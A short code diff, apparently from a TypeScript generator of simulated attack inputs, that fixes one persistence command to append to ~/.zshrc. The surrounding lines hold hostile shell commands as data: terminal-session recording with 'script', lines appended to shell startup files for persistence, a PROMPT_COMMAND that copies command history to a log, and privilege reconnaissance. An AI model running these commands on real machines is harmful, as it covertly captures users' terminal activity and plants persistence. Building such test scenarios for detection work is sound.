@@ -132,7 +132,7 @@ const input: Attack = {
       ],
       [
         `script -q -c "${draw.pick(['id; ls', 'sudo -n -l', 'ls -la /etc | tail -4'])}" ${log} > /dev/null`,
-        `echo 'script -qf ${log}.$$ > /dev/null' >> ~/.${draw.pick(['bash_login', 'zshrc'])}`,
+        `echo 'script -qf ${log}.$$ > /dev/null' >> ~/.zshrc`,
       ],
       [
         `echo 'export PROMPT_COMMAND="history 1 >> ${log}"' >> ~/.bashrc`,
